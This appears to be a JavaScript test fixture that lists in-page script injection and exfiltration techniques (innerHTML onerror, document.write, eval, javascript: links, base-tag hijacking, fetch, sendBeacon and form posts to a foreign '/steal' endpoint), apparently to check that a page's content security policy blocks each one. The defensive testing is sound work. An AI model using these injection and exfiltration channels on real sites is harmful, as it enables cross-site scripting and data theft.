/**
 * Run in the page one by one, as code that got in would; each sets `stolen` where it works. A value of its own, read as
 * text by the test.
 */
({
  'markup from a text': () => (document.body.innerHTML = '<img src=x onerror="globalThis.stolen = true">'),
  'markup beside': () => document.body.insertAdjacentHTML('beforeend', '<script>globalThis.stolen = true</script>'),
  'a document that is written': () => document.write('<script>globalThis.stolen = true</script>'),
  'a parsed fragment': () =>
    document.body.append(document.createRange().createContextualFragment('<script>stolen = true</script>')),
  eval: () => (0, eval)('globalThis.stolen = true'),
  'a function from a text': () => new Function('globalThis.stolen = true')(),
  'a timer with a text': () => setTimeout('globalThis.stolen = true'),
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('globalThis.stolen = true');
    document.head.append(script);
  },
  'a script of another site': (foreign) => {
    const script = document.createElement('script');
    script.setAttribute('src', `${foreign}/x.js`);
    document.head.append(script);
  },
  'a script from data': () => {
    const code = 'data:text/javascript,globalThis.stolen = true';
    return import(code);
  },
  'an inline handler': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'globalThis.stolen = true');
    image.src = '/nothing.png';
    document.body.append(image);
  },
  'a javascript: address': () => {
    const link = document.createElement('a');
    link.href = 'javascript:globalThis.stolen = true';
    document.body.append(link);
    link.click();
  },
  'a policy of its own': () => {
    trustedTypes.createPolicy('default', { createHTML: (text) => text });
    globalThis.stolen = true;
  },
  'a call to another site': async (foreign) => {
    await fetch(`${foreign}/steal`);
    globalThis.stolen = true;
  },
  'a signal to another site': (foreign) => {
    if (navigator.sendBeacon(`${foreign}/steal`, 'x')) return;
    throw new Error('refused');
  },
  'a frame of another site': (foreign) => {
    const frame = document.createElement('iframe');
    frame.src = foreign;
    document.body.append(frame);
  },
  'a form to another site': (foreign) => {
    const form = document.createElement('form');
    form.action = `${foreign}/steal`;
    document.body.append(form);
    form.submit();
  },
  'another base for its links': (foreign) => {
    const base = document.createElement('base');
    base.href = foreign;
    document.head.append(base);
    if (document.baseURI.startsWith(foreign)) globalThis.stolen = true;
  },
  'a worker from a blob': () => {
    const blob = new Blob(['postMessage(1)'], { type: 'text/javascript' });
    const worker = new Worker(URL.createObjectURL(blob));
    worker.onmessage = () => (globalThis.stolen = true);
  },
  'a style of its own': () => {
    const style = document.createElement('style');
    style.append('body { --stolen: yes }');
    document.head.append(style);
    if (getComputedStyle(document.body).getPropertyValue('--stolen') !== '') globalThis.stolen = true;
  },
});
